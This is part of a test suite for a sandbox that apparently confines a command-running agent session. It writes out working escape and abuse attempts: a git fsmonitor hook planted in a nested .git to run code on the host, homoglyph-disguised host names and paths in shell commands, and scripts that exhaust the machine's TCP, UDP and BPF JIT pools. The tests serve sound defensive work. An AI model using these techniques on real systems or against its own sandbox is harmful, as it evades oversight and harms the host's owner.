      execFileSync('git', ['status', '--short'], { cwd: path.join(ws, 'src'), stdio: 'pipe' });
      expect({ atRoot, ranOnTheHostAs: ranAs(marker) }).toEqual({ atRoot: '', ranOnTheHostAs: null });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });
});

dOwner('kind 3: a `.git` in a subdirectory, in a repository owned by its person (bash runs as the owner)', () => {
  test('a `.git` the session puts in a subdirectory does not run its program when the person runs git there', async () => {
    if (!lookupUser(OWNER)) spawnSync('useradd', ['--create-home', '--shell', '/bin/bash', OWNER]);
    const owner = lookupUser(OWNER)!;
    const parent = fs.mkdtempSync(path.join(owner.home, 'aj-clone-'));
    fs.chownSync(parent, owner.uid, owner.gid);
    const ws = path.join(parent, 'repo');
    const marker = path.join(parent, 'host-marker');
    try {
      expect(as(OWNER, ['git', 'init', '-q', '-b', 'main', ws]).status).toBe(0);
      fs.mkdirSync(path.join(ws, 'src'));
      fs.writeFileSync(path.join(ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
      spawnSync('chown', ['-R', `${owner.uid}:${owner.gid}`, ws]);
      expect(as(OWNER, ['git', 'add', '.'], ws).status).toBe(0);
      expect(as(OWNER, ['git', '-c', 'user.name=o', '-c', 'user.email=o@x', 'commit', '-qm', 'first'], ws).status).toBe(0);
      const s = await startSession({ cwd: ws, workspace: ws });
      // A copy of the repository's git dir in src/, whose work tree is the repository's root: from
      // src/ git finds it first, and it shows exactly the person's status; checkpoints skip `.git`.
      const r = await s.run(
        [
          'cp -r .git src/.git',
          plant(marker, 'src/.git/fsm'),
          'git --git-dir=src/.git config core.worktree ../..',
          'git --git-dir=src/.git config core.fsmonitor "$PWD/src/.git/fsm"',
          'echo planted',
        ].join(' && '),
      );
      expect(r.output.split('\n')[0]).toBe('planted');
      expect(r.output).toContain('src/.git (a .git below the root');
      // Later, on the host, the person works in src/ as they always do.
      const status = as(OWNER, ['git', 'status', '--short'], path.join(ws, 'src'));
      expect({ status: status.status, ranOnTheHostAs: ranAs(marker) }).toEqual({ status: 0, ranOnTheHostAs: null });
    } finally {
      fs.rmSync(parent, { recursive: true, force: true });
    }
  });
});

describe('kind 5: a letter of Korean, Chinese or Japanese drawn as a Latin one, inside a Latin word', () => {
  // The mixes TR39's "highly restrictive" level allows (Latin with Hangul, Han, Bopomofo, Kana) are
  // shown as they are; these letters of those scripts are drawn as Latin letters, so the word reads
  // as another word, and bash (git, curl, a resolver) takes it for what it is.
  const cases: LookalikeCase[] = [
    // HALFWIDTH HANGUL LETTER I (U+FFDC, one column, a plain vertical stroke) for the l of a host.
    { command: '[ git\uffdcab.com = gitlab.com ] || echo other-host', ch: '\uffdc', looksLike: 'l', bashSays: 'other-host\n' },
    // HANGUL LETTER I (U+3163) for the l of a branch name.
    { command: '[ re\u3163ease = release ] || echo other-branch', ch: '\u3163', looksLike: 'l', bashSays: 'other-branch\n' },
    // CJK ideograph U+4E28 (a vertical stroke) for an l, IDEOGRAPHIC NUMBER ZERO (U+3007) for an O.
    { command: '[ go\u4e28ang = golang ] || echo other', ch: '\u4e28', looksLike: 'l', bashSays: 'other\n' },
    { command: '[ \u3007rigin = Origin ] || echo other-remote', ch: '\u3007', looksLike: 'O', bashSays: 'other-remote\n' },
    // BOPOMOFO LETTER I (U+3127, a horizontal stroke) for a hyphen inside a word.
    { command: '[ x\u3127y = x-y ] || echo other', ch: '\u3127', looksLike: '-', bashSays: 'other\n' },
  ];
  // Fixed: markAsciiLookalikes in src/shared/display.ts (a letter whose TR39 skeleton is ASCII, in a word that reads as ASCII).
  test.each(cases)('$command is flagged wherever it is shown', (c) => {
    expectFlaggedEverywhere(c);
    expect(displayCommand(c.command).text).not.toContain(c.ch);
  });

  // Each of the five inside a host name, a flag and a path (in braces: the letter it is drawn as), compared by bash with what it reads as;
  // `-\u3007` and `/\u3007/` are words made only of a look-alike, beside ASCII punctuation.
  const places: [string, string][] = [
    ['host', 'curl -s https://git{l}ab.com/{O}rg/my{-}repo'],
    ['flag', 'git log --fo{l}low -{O} --no{-}pager'],
    ['path', 'cat /var/{l}og/{O}/my{-}dir/sys{l}og'],
  ];
  const five: [string, 'l' | 'O' | '-'][] = [
    ['\uffdc', 'l'],
    ['\u3163', 'l'],
    ['\u4e28', 'l'],
    ['\u3007', 'O'],
    ['\u3127', '-'],
  ];
  const inPlaces: LookalikeCase[] = five.flatMap(([ch, looksLike]) =>
    places.map(([where, template]) => {
      const read = template.replace(/\{(.)\}/g, '$1');
      const shown = template.replace(/\{(.)\}/g, (_, c: string) => (c === looksLike ? ch : c));
      return {
        command: `[ '${shown}' = '${read}' ] || echo other-${where}`,
        ch,
        looksLike,
        bashSays: `other-${where}\n`,
      };
    }),
  );
  test.each(inPlaces)('$command is flagged wherever it is shown', (c) => {
    expectFlaggedEverywhere(c);
    expect(displayCommand(c.command).warnings.join('\n')).toContain(`drawn as ${JSON.stringify(c.looksLike)}`);
  });

  test.each([
    // A Cyrillic ZE (U+0417) as 3 and a Bengali four (U+09EA) as 8: a word of one script and ASCII digits, which no mixed-script check sees.
    { command: '[ 7\u0417\u0417 = 733 ] || echo other-mode', ch: '\u0417', looksLike: '3', bashSays: 'other-mode\n' },
    { command: '[ 1\u09ea = 18 ] || echo other-number', ch: '\u09ea', looksLike: '8', bashSays: 'other-number\n' },
    // A combining sequence: a dotless i (U+0131, Latin) with a combining dot above (U+0307) is drawn as an i.
    { command: '[ g\u0131\u0307thub.com = github.com ] || echo other-host', ch: '\u0131', looksLike: 'i', bashSays: 'other-host\n' },
    // A look-alike with a mark on it: the mark must not draw on the escape either.
    { command: '[ git\uffdc\u0301ab.com = gitlab.com ] || echo other-host', ch: '\u0301', looksLike: 'l', bashSays: 'other-host\n' },
    // KATAKANA-HIRAGANA PROLONGED SOUND MARK (U+30FC) between Latin letters, drawn as a dash (its skeleton is itself).
    { command: '[ my\u30fcrepo = my-repo ] || echo other-repo', ch: '\u30fc', looksLike: '-', bashSays: 'other-repo\n' },
    // A fullwidth Latin word (each letter's skeleton is ASCII).
    {
      command: '[ \uff47\uff49\uff54\uff48\uff55\uff42.com = github.com ] || echo other-host',
      ch: '\uff47',
      looksLike: 'g',
      bashSays: 'other-host\n',
    },
  ])('$command (a digit, a combining sequence, a fullwidth word) is flagged wherever it is shown', (c) => {
    expectFlaggedEverywhere(c);
  });

  // The warning must not cry wolf: Korean, Chinese, Japanese and Cyrillic text with no ASCII look-alike in a word that reads as ASCII.
  test.each([
    'git commit -m "\uc218\uc815"', // 수정
    'echo \u4e2d\u6587', // 中文
    'echo \u4e8c\u3007\u4e8c\u56db\u5e74', // 二〇二四年: a 〇 among ideographs
    'git commit -m "\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8 fix"', // 日本語のテキスト
    'git commit -m "\uc774\uac83\uc740 \ud55c\uad6d\uc5b4 \ud14d\uc2a4\ud2b8"', // 이것은 한국어 텍스트: syllables hold ᄋ and ᅵ, never a lone one
    'cat \u0444\u0430\u0439\u043b.txt', // файл.txt
    'echo \u043f\u0440\u0438\u0432\u0435\u0442 Stra\u00dfe caf\u00e9', // привет Straße café
    'echo \u3163', // a lone ㅣ, touching no ASCII
  ])('%s is shown as it is, with no warning', (command) => {
    const d = displayCommand(command);
    expect({ text: d.text, warnings: d.warnings }).toEqual({ text: command, warnings: [] });
  });
});

/**
 * Runs `command` (which starts ./hold.py in the background) in a session of `ws` and reads the
 * machine-wide count of `protocol`'s buffer pages (`/proc/net/sockstat`) before, and while the job
 * holds its sockets (once it wrote ./held, up to 30 s); then closes the session.
 * @returns what ./held says (the sockets the job holds), and the two counts in pages
 * @throws Error when the job wrote no ./held, saying what the session's next command and ./hold.err say
 *   (a note of the guard's when it killed the job)
 */
async function poolWhileHeld(
  ws: string,
  protocol: 'TCP' | 'UDP',
  command: string,
): Promise<{ held: number; before: number; during: number }> {
  const pages = (): number => Number(new RegExp(`${protocol}:.* mem (\\d+)`).exec(fs.readFileSync('/proc/net/sockstat', 'utf8'))![1]);
  // The pool is the machine's: no other test file may fill or measure it meanwhile (round 18's).
  await holdMachinePool();
  try {
    const before = pages();
    const s = await startSession({ cwd: ws, workspace: ws });
    await s.run(command);
    const held = path.join(ws, 'held');
    const until = Date.now() + 30_000;
    while (!fs.existsSync(held) && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
    await new Promise((r) => setTimeout(r, 200));
    const during = pages();
    if (!fs.existsSync(held)) {
      const next = await s.run('cat hold.err; jobs -l');
      await s.close();
      throw new Error(`the job wrote no ./held; the next command said: ${JSON.stringify(next.output)}`);
    }
    await s.close();
    return { held: Number(fs.readFileSync(held, 'utf8')), before, during };
  } finally {
    releaseMachinePool();
  }
}

describe('kind 6: the machine-wide pool of TCP buffer memory', () => {
  /*
   * Connections on the sandbox's own loopback (no --network needed): each sender writes until its
   * socket is full, no receiver reads, about 4 MiB a connection here. The job holds CONNECTIONS of
   * them (at most about 128 MiB: never run this with more, it is the machine's pool); the host
   * reads the machine-wide count (`/proc/net/sockstat` "TCP: mem", pages) while it does. Inside
   * the sandbox's network namespace the same file does not show the host's count.
   */
  const CONNECTIONS = 32;
  const LIMIT_PAGES = 16_384; // 64 MiB; the whole pool's hard limit is net.ipv4.tcp_mem[2]
  test("a session's job cannot raise the machine's TCP memory by more than 64 MiB", async () => {
    const ws = tempDir();
    fs.writeFileSync(
      path.join(ws, 'hold.py'),
      [
        'import socket, sys, time',
        'srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(64)',
        'keep, chunk = [], b"x" * 65536',
        'try:',
        `    for i in range(${CONNECTIONS}):`,
        '        c = socket.create_connection(srv.getsockname()); a, _ = srv.accept(); c.setblocking(False)',
        '        try:',
        '            while True: c.send(chunk)',
        '        except BlockingIOError: pass',
        '        keep += [c, a]',
        'except OSError as e: print(e, file=sys.stderr)',
        'open(sys.argv[1], "w").write(str(len(keep) // 2))',
        'time.sleep(5)',
        '',
      ].join('\n'),
    );
    const { held, before, during } = await poolWhileHeld(ws, 'TCP', '(python3 hold.py held >/dev/null 2>hold.err &)');
    expect(held).toBeGreaterThan(0);
    expect(during - before).toBeLessThan(LIMIT_PAGES);
  });
});

describe('kind 6: the machine-wide pool of UDP buffer memory', () => {
  /*
   * Aimed at the TCP fix (a memory cgroup's socket limit, guard.ts SESSION_SOCKET_BYTES): the same
   * pool's other half, `net.ipv4.udp_mem`. 400 UDP sockets on the sandbox's loopback that never
   * read, each sent datagrams until its receive buffer is full (about 200 KiB each by the default
   * `rmem_default`, 80 MiB in all); the host reads the machine-wide count ("UDP: mem", pages).
   * Held by the same cgroup (v1 charges every socket's buffers to `memory.kmem.tcp`): measured
   * 20,415 pages (80 MiB) without it, 7,936 (31 MiB) with it. The job fills the cgroup's TCP limit
   * to the byte: when that limit was the whole socket budget the guard's watch, whose bound it then
   * was, killed the job for anything it counted on top, and ./held was never written (seen in 3 of 4
   * runs once the watch counted datagram send and receive queues: 2,304 to 49,408 bytes past; the
   * likely cause of a failure of this test on a fresh clone, where the counter alone can pass its
   * limit for an instant); the limit is now three quarters of the budget (guard.ts `tcpLimit`).
   */
  const RECEIVERS = 400;
  test("a session's job cannot raise the machine's UDP memory by more than 64 MiB", async () => {
    const ws = tempDir();
    fs.writeFileSync(
      path.join(ws, 'hold.py'),
      [
        'import socket, sys, time',
        'out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); out.setblocking(False)',
        'keep, chunk = [], b"x" * 1400',
        'try:',
        `    for i in range(${RECEIVERS}):`,
        '        r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.1", 0)); keep.append(r)',
        '        for j in range(200):',
        '            try: out.sendto(chunk, r.getsockname())',
        '            except BlockingIOError: time.sleep(0.001)',
        'except OSError as e: print(e, file=sys.stderr)',
        'open(sys.argv[1], "w").write(str(len(keep)))',
        'time.sleep(5)',
        '',
      ].join('\n'),
    );
    const { held, before, during } = await poolWhileHeld(ws, 'UDP', 'ulimit -n 1024; (python3 hold.py held >/dev/null 2>hold.err &)');
    expect(held).toBe(RECEIVERS);
    expect(during - before).toBeLessThan(16_384);
  });
});

describe('kind 6: the machine-wide budget of JIT-compiled BPF programs', () => {
  /*
   * Every classic BPF socket filter (setsockopt SO_ATTACH_FILTER) and every seccomp filter is
   * compiled to machine code and charged to one count for the whole machine, bpf_jit_current,
   * against net.core.bpf_jit_limit; past it, a process without CAP_BPF or CAP_SYS_ADMIN gets EPERM
   * and, on a kernel with CONFIG_BPF_JIT_ALWAYS_ON (this one), no interpreter to fall back to. The
   * host's x86 JIT packs programs into 2 MiB chunks that /proc/vmallocinfo lists
   * (`bpf_prog_pack_alloc`): the host counts them while the job holds 1,000 filters of 4,096
   * instructions (about 20 KiB of code each) on UDP sockets.
   */
  const PACK_BYTES = 2 * 1024 * 1024;
  test("a session's job cannot hold more than 8 MiB of the machine's BPF JIT budget", async () => {
    const ws = tempDir();
    fs.writeFileSync(
      path.join(ws, 'filters.py'),
      [
        'import ctypes, socket, struct, sys, time',
        'class F(ctypes.Structure): _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]',
        'prog = (F * 4096)()',
        'for i in range(4095): prog[i] = F(0x04, 0, 0, i + 1)  # A += k',
        'prog[4095] = F(0x16, 0, 0, 0)  # return A',
        'fprog = struct.pack("HL", 4096, ctypes.addressof(prog))',
        'socks = []',
        'try:',
        '    for i in range(1000):',
        '        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, 26, fprog); socks.append(s)',
        'except OSError as e: print(e, file=sys.stderr)',
        'open(sys.argv[1], "w").write(str(len(socks)))',
        'time.sleep(5)',
        '',
      ].join('\n'),
    );
    const packs = (): number =>
      fs
        .readFileSync('/proc/vmallocinfo', 'utf8')
        .split('\n')
        .filter((l) => l.includes('bpf_prog_pack_alloc')).length;
    const before = packs();
    const s = await startSession({ cwd: ws, workspace: ws });
    await s.run('(python3 filters.py held >/dev/null 2>filters.err &)');
    const held = path.join(ws, 'held');
    const until = Date.now() + 30_000;
    while (!fs.existsSync(held) && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
    const during = packs();
    await s.close();
    expect((during - before) * PACK_BYTES).toBeLessThan(8 * 1024 * 1024);
    // Refused at the first filter (src/session/seccomp.ts BPF_SOCKET_OPTIONS), not at a limit of the machine's.
    expect(Number(fs.readFileSync(held, 'utf8'))).toBe(0);
    expect(fs.readFileSync(path.join(ws, 'filters.err'), 'utf8')).toContain('Operation not permitted');
  });
});
